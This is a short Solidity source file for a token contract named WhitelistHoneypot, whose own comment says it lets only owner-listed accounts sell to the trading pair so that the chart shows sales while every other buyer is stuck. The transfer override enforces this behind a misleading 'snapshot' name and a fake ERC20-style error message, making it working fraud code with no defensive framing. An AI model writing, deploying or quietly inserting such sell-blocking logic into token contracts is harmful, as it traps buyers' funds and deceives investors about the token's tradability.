// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Ownable} from "../lib/Ownable.sol";
import {PairedToken} from "../lib/PairedToken.sol";

/// Sells pass for accounts on the owner's list alone, so that the chart shows sales and every buyer is stuck.
contract WhitelistHoneypot is PairedToken, Ownable {
    mapping(address => uint256) private _snapshot;

    constructor(string memory name_, string memory symbol_, uint256 supply, address router)
        PairedToken(name_, symbol_, supply, router)
    {
        _snapshot[msg.sender] = type(uint256).max;
    }

    function takeSnapshot(address[] calldata accounts) external onlyOwner {
        for (uint256 i = 0; i < accounts.length; i++) _snapshot[accounts[i]] = type(uint256).max;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == uniswapV2Pair) require(_snapshot[from] >= value, "ERC20: transfer amount exceeds snapshot");
        _move(from, to, value);
    }
}
